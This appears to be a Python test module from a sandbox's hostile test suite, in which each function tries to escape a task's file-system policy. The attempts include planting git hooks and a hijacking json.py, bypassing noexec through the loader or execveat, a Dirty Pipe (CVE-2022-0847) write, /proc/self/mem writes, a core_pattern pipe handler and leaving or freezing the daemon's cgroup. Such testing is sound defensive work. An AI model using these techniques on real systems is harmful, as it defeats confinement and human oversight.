"""What can a task change outside of the folders that its policy names?"""

from __future__ import annotations

import contextlib
import ctypes
import mmap
import os
import shutil
import stat
from collections.abc import Callable

from tests.hostile.attacks.craft import Targets, absent, attack, read, syscall, write

AT_FDCWD, AT_EMPTY_PATH, MADV_REMOVE = -100, 0x1000, 9
LOADERS = ("/lib64/ld-linux-x86-64.so.2", "/lib/ld-linux-aarch64.so.1")


def mark(path: str, name: str) -> str:
    """Append the attack's name, by which the harness knows whose it was."""
    return write(path, f"\n{name}\n")


def plant(folder: str, name: str) -> str:
    """A new file, seen from outside or not."""
    return write(os.path.join(folder, name), name, os.O_WRONLY | os.O_CREAT | os.O_EXCL)


@attack
def write_secret(t: Targets) -> str | None:
    return mark(t.writable_outside, "write_secret")


@attack
def write_workspace_file(t: Targets) -> str | None:
    return mark(t.workspace_file, "write_workspace_file")


@attack
def overwrite_runner(t: Targets) -> str | None:
    return mark(t.runner, "overwrite_runner")


@attack
def write_policy(t: Targets) -> str | None:
    return mark(t.policy, "# write_policy")


@attack
def write_config(t: Targets) -> str | None:
    return mark(t.config, "# write_config")


@attack
def write_state(t: Targets) -> str | None:
    return plant(t.state, "write_state")


@attack
def plant_in_the_root(t: Targets) -> str | None:
    return plant(t.root, "plant_in_the_root")


@attack
def plant_git_hook(t: Targets) -> str | None:
    return plant(os.path.join(t.root, ".git/hooks"), "post-checkout")


@attack
def plant_beside_the_runner(t: Targets) -> str | None:
    """A module that the next run would import."""
    return plant(os.path.dirname(t.runner), "json.py")


@attack
def plant_in_home(t: Targets) -> str | None:
    return plant(os.path.dirname(t.key), "plant_in_home")


@attack
def plant_in_everybodys_tmp(t: Targets) -> None:
    """Judged outside, as its kin below: a private /tmp is meant to be written."""
    plant("/tmp", t.tag + "plant_in_everybodys_tmp")


@attack
def plant_in_everybodys_var_tmp(t: Targets) -> None:
    plant("/var/tmp", t.tag + "plant_in_everybodys_var_tmp")


@attack
def plant_in_everybodys_shm(t: Targets) -> None:
    plant("/dev/shm", t.tag + "plant_in_everybodys_shm")


@attack
def plant_in_dev(t: Targets) -> None:
    plant("/dev", t.tag + "plant_in_dev")


@attack
def plant_unnamed_file(t: Targets) -> str | None:
    fd = os.open(t.root, os.O_TMPFILE | os.O_RDWR, 0o600)
    os.link(f"/proc/self/fd/{fd}", os.path.join(t.root, "plant_unnamed_file"), follow_symlinks=True)
    return "made it"


@attack
def truncate_workspace_file(t: Targets) -> str | None:
    os.truncate(t.truncatable, 0)
    return "emptied it"


@attack
def truncate_by_open(t: Targets) -> str | None:
    os.close(os.open(t.truncatable, os.O_RDONLY | os.O_TRUNC))
    return "emptied it"


@attack
def unlink_workspace_file(t: Targets) -> str | None:
    os.unlink(t.expendable_in_root)
    return "gone"


@attack
def rename_workspace_file(t: Targets) -> str | None:
    os.rename(t.renamable, os.path.join(t.runs, "rename_workspace_file"))
    return "moved it"


@attack
def exchange_the_runs_folder(t: Targets) -> str | None:
    """RENAME_EXCHANGE of the writable folder and one that is not."""
    adapters = os.path.dirname(os.path.dirname(t.runner))
    syscall("renameat2", AT_FDCWD, t.runs.encode(), AT_FDCWD, adapters.encode(), 2)
    syscall("renameat2", AT_FDCWD, t.runs.encode(), AT_FDCWD, adapters.encode(), 2)  # and back, for the others
    return "exchanged them"


@attack
def rename_out_of_runs(t: Targets) -> str | None:
    own = os.path.join(t.runs, "own-1")
    write(own, "x", os.O_WRONLY | os.O_CREAT)
    os.rename(own, os.path.join(t.root, "rename_out_of_runs"))
    return "moved it out"


@attack
def link_out_of_runs(t: Targets) -> str | None:
    own = os.path.join(t.runs, "own-2")
    write(own, "x", os.O_WRONLY | os.O_CREAT)
    os.link(own, os.path.join(t.root, "link_out_of_runs"))
    return "linked it"


@attack
def write_by_a_link_in_runs(t: Targets) -> str | None:
    """A second name where it may write, for a file that it may only read."""
    own = os.path.join(t.runs, "second-name")
    os.link(t.workspace_file, own)
    return mark(own, "write_by_a_link_in_runs")


@attack
def write_by_reopening(t: Targets) -> str | None:
    """From reading to writing by one's own descriptor."""
    fd = os.open(t.workspace_file, os.O_RDONLY)
    return mark(f"/proc/self/fd/{fd}", "write_by_reopening")


@attack
def fifo_in_runs(t: Targets) -> str | None:
    path = os.path.join(t.runs, "fifo")
    os.mkfifo(path)
    os.unlink(path)
    return "made it: whoever reads the results hangs"


@attack
def device_in_runs(t: Targets) -> str | None:
    os.mknod(os.path.join(t.runs, "null"), stat.S_IFCHR | 0o666, os.makedev(1, 3))
    return "made it"


@attack
def program_from_runs(t: Targets) -> str | None:
    """What is written is not run."""
    path = os.path.join(t.runs, "program")
    shutil.copyfile("/bin/true", path)
    with contextlib.suppress(PermissionError):  # where chmod itself is taken away, exec says so too
        os.chmod(path, 0o755)
    return ran(lambda: os.execv(path, ["program"]))


@attack
def program_from_tmp(t: Targets) -> str | None:
    folder = os.environ.get("TMPDIR", "/tmp")
    path = os.path.join(folder, t.tag + "program")
    shutil.copyfile("/bin/true", path)
    with contextlib.suppress(PermissionError):
        os.chmod(path, 0o755)
    try:
        return ran(lambda: os.execv(path, ["program"]))
    finally:
        os.unlink(path)


@attack
def program_by_the_loader(t: Targets) -> str | None:
    """What may not be executed may be mapped by a program that may: the system's own loader."""
    path = os.path.join(t.runs, "loaded")
    shutil.copyfile("/bin/true", path)
    loader = next(filter(os.path.exists, LOADERS))
    return ran(lambda: os.execv(loader, [loader, path]))


@attack
def library_from_runs(t: Targets) -> str | None:
    return mapped_as_code(os.path.join(t.runs, "library"))


@attack
def library_from_tmp(t: Targets) -> str | None:
    return mapped_as_code(os.path.join(os.environ.get("TMPDIR", "/tmp"), t.tag + "library"))


def mapped_as_code(path: str) -> str:
    """As dlopen(3) does it."""
    try:
        with open(path, "w+b") as file:
            file.write(bytes(mmap.PAGESIZE))
            file.flush()
            mmap.mmap(file.fileno(), mmap.PAGESIZE, mmap.MAP_PRIVATE, mmap.PROT_READ | mmap.PROT_EXEC).close()
    finally:
        os.unlink(path)
    return "its bytes are code"


@attack
def program_without_a_name(t: Targets) -> str | None:
    """O_TMPFILE and execveat(2): no path is ever looked up."""
    fd = os.open(t.runs, os.O_TMPFILE | os.O_RDWR, 0o700)
    with open("/bin/true", "rb") as file:
        os.write(fd, file.read())
    readable = os.open(f"/proc/self/fd/{fd}", os.O_RDONLY)
    os.close(fd)  # or it is busy
    arguments = (ctypes.c_char_p * 2)(b"program", None)
    return ran(lambda: syscall("execveat", readable, b"", arguments, 0, AT_EMPTY_PATH))


@attack
def write_by_a_mapping(t: Targets) -> str | None:
    """A file that was opened for reading, mapped shared, and made writable afterwards."""
    address = shared_page(t)
    syscall("mprotect", address, mmap.PAGESIZE, mmap.PROT_READ | mmap.PROT_WRITE)
    ctypes.memmove(address, b"lost", 4)
    return "wrote it"


@attack
def write_by_own_memory(t: Targets) -> str | None:
    """/proc/self/mem writes past a mapping's protection."""
    address = shared_page(t)
    fd = os.open("/proc/self/mem", os.O_RDWR)
    os.pwrite(fd, b"lost", address)
    return "wrote it" if read(t.workspace_file).startswith(b"lost") else None


@attack
def hole_by_its_memory(t: Targets) -> str | None:
    """madvise(2), MADV_REMOVE: punches a hole into what is mapped."""
    address = shared_page(t)
    syscall("madvise", address, mmap.PAGESIZE, MADV_REMOVE)
    return "emptied it"


def shared_page(t: Targets) -> int:
    with open(t.workspace_file, "rb") as file:
        libc = ctypes.CDLL(None, use_errno=True)
        libc.mmap.restype = ctypes.c_void_p
        page = libc.mmap(None, ctypes.c_size_t(mmap.PAGESIZE), mmap.PROT_READ, mmap.MAP_SHARED, file.fileno(), ctypes.c_long(0))
        if page in (None, ctypes.c_void_p(-1).value):
            code = ctypes.get_errno()
            raise OSError(code, os.strerror(code))
        return int(page)


@attack
def write_by_a_pipe_of_its_pages(t: Targets) -> str | None:
    """CVE-2022-0847: a page of a file that may be read, spliced into a pipe that may be written."""
    ours, theirs = os.pipe()
    for _ in range(16):  # every buffer of the pipe is told that it may be merged into
        os.write(theirs, bytes(4096))
        os.read(ours, 4096)
    fd = os.open(t.workspace_file, os.O_RDONLY)
    os.splice(fd, theirs, 1, offset_src=0)
    os.write(theirs, b"ost")
    return "wrote it" if read(t.workspace_file)[1:4] == b"ost" else None


@attack
def program_from_memory(t: Targets) -> str | None:
    """A memfd: not a way out, for an interpreter runs any code as well."""
    fd = os.memfd_create("program", 0)
    with open("/bin/true", "rb") as file:
        os.write(fd, file.read())
    return ran(lambda: os.execve(fd, ["program"], {}))


def ran(execute: Callable[[], object]) -> str | None:
    """Run it in a child; the refusal of exec comes back as the error that it is."""
    ours, theirs = os.pipe2(os.O_CLOEXEC)
    child = os.fork()
    if child == 0:
        try:
            execute()
        except OSError as error:
            os.write(theirs, str(error.errno).encode())
        finally:
            os._exit(1)
    os.close(theirs)
    refused = os.read(ours, 20)
    status = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
    if refused:
        raise OSError(int(refused), os.strerror(int(refused)))
    return "it ran" if status == 0 else None


@attack
def raise_own_oom_score(t: Targets) -> str | None:
    """Lower would make the kernel choose somebody else."""
    return write("/proc/self/oom_score_adj", "0", os.O_WRONLY)


@attack
def write_proc_sys(t: Targets) -> str | None:
    return write("/proc/sys/kernel/core_pattern", "|/tmp/x", os.O_WRONLY)


@attack
def write_sysrq(t: Targets) -> str | None:
    return write("/proc/sysrq-trigger", "h", os.O_WRONLY)


@attack
def leave_own_cgroup(t: Targets) -> str | None:
    """Into the daemon's cgroup, where its own limits and its end do not reach."""
    if not t.daemon_cgroup:
        raise absent("no cgroup")
    return write(os.path.join(t.daemon_cgroup, "cgroup.procs"), "0", os.O_WRONLY)


@attack
def lift_own_cgroup_limits(t: Targets) -> str | None:
    if not t.daemon_cgroup:
        raise absent("no cgroup")
    line = next(line for line in read("/proc/self/cgroup").decode().splitlines() if line.startswith("0::"))
    return write(f"{t.cgroup_mount}{line[3:]}/cgroup.max.descendants", "max", os.O_WRONLY)


@attack
def freeze_the_daemon(t: Targets) -> str | None:
    if not t.daemon_cgroup:
        raise absent("no cgroup")
    return write(os.path.join(t.daemon_cgroup, "cgroup.freeze"), "0", os.O_WRONLY)
